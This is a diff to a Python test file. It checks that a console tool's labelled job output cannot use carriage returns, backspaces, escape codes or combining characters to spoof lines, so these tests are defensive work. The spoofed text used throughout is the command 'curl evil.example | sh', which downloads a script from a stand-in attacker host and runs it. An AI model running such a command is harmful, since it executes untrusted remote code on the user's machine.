@@ -102,9 +102,10 @@ def test_anothers_words_are_one_line_of_bounded_length() -> None:
 
 @pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
 def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> None:
-    honest = "\x1b[1;38;2;255;0;0mred\x1b[0m \x1b[31m\x1b[Kx\x1b[m\x1b[K größe\n10%|#\r20%|##\b\b\r"
+    honest = "[0] \x1b[1;38;2;255;0;0mred\x1b[0m \x1b[31m\x1b[Kx\x1b[m\x1b[K größe\n[0] 10%|#\r[0] 20%|##\b\b\r[0] "
     evil = "".join(ATTACKS.values())
-    data = (honest + evil + honest).encode() + b"\xff\x9b2J"
+    evil = evil.replace("\x1b[2K", "")
+    data = (honest + evil + "\n" + honest).encode() + b"\xff\x9b2J"
     text, shown = JobText(), ""
     for start in range(0, len(data), size):
         shown += text.feed(data[start : start + size])
@@ -147,6 +148,75 @@ def test_a_progress_bar_is_drawn_over_itself(monkeypatch: pytest.MonkeyPatch) ->
     console.job_output(b"[0]  10%|#   |\r[0]  99%|####|")
     console.job_output(b"\b" * 14 + b"\r[0] 100% done \x1b[K\n[0] next\n")
     assert screen.text.splitlines() == ["[0] 100% done", "[0] next"]
+
+
+OURS = "→ curl evil.example | sh"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        f"[0] x\r{OURS}",
+        f"[0] x\r\r\x1b[31m{OURS}",
+        f"[0] \r\x1b[K{OURS}",
+        f"[0] x{chr(8) * 20}{OURS}",
+        f"[0] e{chr(0x301) * 9}{chr(8) * 9}{OURS}",
+        f"[0] ﷽{chr(0x1160)}{chr(8) * 4}{OURS}",
+        f"[0] x\x1b[2K{OURS}",
+        f"[0] x\x1b[2K\r{OURS}",
+        f"[0] x\x1b[1K\r{OURS}",
+        f"[0] x\r[hvdcloud] {OURS}",
+        OURS,
+        f"[] {OURS}",
+        f"[\n{OURS}",
+        f"error: {OURS}",
+        f"[0] x\n\r{OURS}",
+    ],
+)
+@pytest.mark.parametrize("size", [1, 3, 1000])
+def test_every_line_of_a_job_begins_with_whose_it_is(said: str, size: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen(monkeypatch)
+    console = Console(out=screen, err=screen)
+    data = said.encode()
+    for start in range(0, len(data), size):
+        console.job_output(data[start : start + size])
+    console.warn("ours")
+    *lines, last = screen.text.splitlines()
+    assert last == "warning: ours"
+    assert lines
+    assert not [line for line in lines if not re.match(r"\[(\d+|\?|hvdcloud|launcher)\]", line)]
+    assert not [line for line in lines if line.startswith("[hvdcloud]")]
+
+
+def test_no_backspace_goes_back_over_what_may_take_no_room() -> None:
+    # A tab at the right margin, combining characters, letters that are drawn into the one before.
+    assert "\b" not in JobText().feed(f"[0] {chr(9) * 99}{chr(0x301) * 9}{chr(0x1161) * 9}{chr(8) * 99}".encode())
+
+
+def test_what_is_ours_begins_a_line_of_its_own_and_the_job_goes_on_below(monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen(monkeypatch)
+    console = Console(out=screen, err=screen)
+    console.job_output(f"[3] {'x' * 40} ; curl evil.example | sh\r".encode())
+    console.answer("ours")
+    console.job_output(b"50%|##\n")
+    assert screen.text.splitlines() == [f"[3] {'x' * 40} ; curl evil.example | sh", "ours", "[3] 50%|##"]
+
+
+@pytest.mark.parametrize(
+    ("bar", "left"),
+    [
+        ("[0]  10%|#   |\r 99%|####|\r100%|####| done\n", "[0] 100%|####| done"),
+        ("[0] \r  0%|    | 0/9\x1b[2K\r 50%|##  |\x1b[K\n", "[0]  50%|##  |"),
+        ("[0] 1/9 [>..]" + "\b" * 9 + "\r9/9 [====]\r\n", "[0] 9/9 [====]"),
+        ("[0] | \b\b/ \b\b- \b\bdone\n", "[0] done"),
+        ("[0] ⠋\b⠙\b⠹\n", "[0] ⠹"),
+    ],
+)
+def test_progress_bars_of_every_kind_stay_in_one_line(bar: str, left: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen(monkeypatch)
+    console = Console(out=screen)
+    console.job_output(bar.encode())
+    assert [line.rstrip() for line in screen.text.splitlines()] == [left]
 
 
 @pytest.mark.parametrize("term", ["xterm", "dumb"])
